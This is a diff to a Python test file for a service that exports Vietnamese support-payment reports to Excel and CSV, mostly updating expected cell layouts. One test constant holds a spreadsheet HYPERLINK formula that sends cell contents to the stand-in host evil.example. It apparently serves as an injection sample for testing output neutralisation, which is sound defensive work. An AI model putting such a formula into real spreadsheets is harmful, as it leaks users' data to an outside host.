@@ -12,7 +12,7 @@ from openpyxl import Workbook, load_workbook
 
 from service.workbook import export_rows, neutralize, put_text, render_export_csv, render_export_xlsx, \
     render_workbook
-from tests.unit.test_digest import CFG, DAY, MILLION, YESTERDAY, at, make_cfg, model, msg, scenario, view_of
+from tests.unit.test_digest import CFG, DAY, YESTERDAY, at, make_cfg, model, msg, scenario, view_of
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
 
@@ -56,12 +56,14 @@ def test_print_setup_freeze_panes_and_widths_on_every_sheet():
     for ws in wb.worksheets:
         assert ws.page_setup.orientation == "landscape", ws.title
         assert int(ws.page_setup.paperSize) == 9, ws.title  # A4
-        assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
+        # one page wide, except the wide detail sheet: a scale and a page per indicator pair
+        assert ws.sheet_properties.pageSetUpPr.fitToPage or ws.page_setup.scale >= 60, ws.title
         assert ws.print_title_rows, ws.title
         assert ws.freeze_panes, ws.title
         assert ws.column_dimensions["B"].width > 5, ws.title
     assert wb["Tổng hợp"].freeze_panes == "C9" and wb["Tổng hợp"].print_title_rows == "$7:$8"
-    assert wb["Chi tiết theo đơn vị"].print_title_cols == "$A:$C"
+    detail = wb["Chi tiết theo đơn vị"]
+    assert detail.print_title_cols == "$A:$D" and detail.freeze_panes == "C6"
 
 
 def test_totals_sheet_values_changes_and_formats():
@@ -110,15 +112,14 @@ def test_status_sheet_one_row_per_unit_with_stale_note():
 def test_detail_sheet_is_one_row_per_unit_and_a_column_per_indicator_and_measure():
     _, wb = book()
     ws = wb["Chi tiết theo đơn vị"]
-    assert ws["F4"].value == "Hỗ trợ người lao động ngừng việc" and ws["H4"].value == "Hỗ trợ hộ kinh doanh"
-    assert [ws.cell(5, c).value for c in range(6, 10)] == [
+    assert ws["E4"].value == "Hỗ trợ người lao động ngừng việc" and ws["G4"].value == "Hỗ trợ hộ kinh doanh"
+    assert [ws.cell(5, c).value for c in range(5, 9)] == [
         "Số đối tượng đề nghị hỗ trợ", "Kinh phí được phê duyệt (triệu đồng)"] * 2
-    rows = {ws.cell(r, 2).value: [c.value for c in ws[r]][5:9] for r in range(6, ws.max_row + 1)
-            if ws.cell(r, 2).value}
-    assert rows["BHXH"] == [1234, 1234.5, None, None]
-    assert rows["YTE"] == [None, None, 40, None]  # stale figures still count
-    last = ws.max_row
-    assert ws.cell(last, 3).value == "Tổng cộng" and ws.cell(last, 6).value == 1284
+    rows = {ws.cell(r, 2).value: [c.value for c in ws[r]][2:8] for r in range(6, ws.max_row + 1)}
+    assert rows["Phòng, ban, ngành"] == [None] * 6  # a group row
+    assert rows["Bảo hiểm xã hội thành phố"] == ["Đúng hạn", dt.datetime(2021, 8, 11), 1234, 1234.5, None, None]
+    assert rows["Phòng Y tế"] == ["Chưa báo cáo", dt.datetime(2021, 8, 10), None, None, 40, None]
+    assert rows["Tổng cộng"][2:] == [1284, 1234.5, 47, None]
 
 
 def test_problems_and_unassigned_sheets():
@@ -218,4 +219,3 @@ def test_money_values_keep_every_dong_in_the_workbook():
     messages = [msg("BHXH", at(DAY, 8), {("ngung_viec", "kinh_phi"): 1_234_567})]
     _, wb = book(messages=messages)
     assert wb["Tổng hợp"]["E9"].value == pytest.approx(1.234567)
-    assert MILLION == 1_000_000
